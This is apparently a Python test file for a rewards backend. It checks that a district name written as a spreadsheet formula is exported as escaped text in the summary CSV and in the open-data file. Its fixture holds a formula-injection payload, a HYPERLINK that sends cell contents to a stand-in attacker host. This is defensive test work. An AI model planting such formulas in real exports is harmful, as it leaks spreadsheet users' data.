"""CSV exports never carry a live spreadsheet formula: a district named like a formula arrives as text in
the council's summary CSV and in the public open-data file."""

from __future__ import annotations

import csv
import io

from backend.db import transaction
from backend.rewards.installation import claim_ids
from backend.runtime import Runtime
from tests.backend.indexer.coin import new_account
from tests.backend.reports.test_reports import OPERATOR, approved_claim

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'


def _rewarded_in_formula_district(runtime: Runtime, coin, make_indexer, w3) -> None:
    citizen = new_account(w3)
    claim = approved_claim(runtime, citizen.address, district=FORMULA, minutes=60)
    with transaction(runtime.sessions) as session:  # the claim's on-chain id, as the sender builds it
        onchain_claim = claim_ids(session).onchain_int(claim)
    coin.reward(citizen.address, 1500, onchain_claim)
    make_indexer().run_until_idle()


def _districts(text: str) -> set[str]:
    return {row["district"] for row in csv.DictReader(io.StringIO(text))}


def test_a_formula_district_is_text_in_the_summary_csv(client, sign_in, runtime, coin, make_indexer, w3) -> None:
    _rewarded_in_formula_district(runtime, coin, make_indexer, w3)
    response = client.get("/api/v1/reports/summary.csv", headers=sign_in(client, OPERATOR))
    assert response.status_code == 200
    assert "'" + FORMULA in _districts(response.text)
    assert FORMULA not in _districts(response.text)


def test_a_formula_district_is_text_in_the_open_data_file(client, sign_in, runtime, coin, make_indexer, w3) -> None:
    _rewarded_in_formula_district(runtime, coin, make_indexer, w3)
    response = client.get("/api/v1/reports/open-data", headers=sign_in(client, OPERATOR))
    assert response.status_code == 200
    assert _districts(response.text) == {"'" + FORMULA}
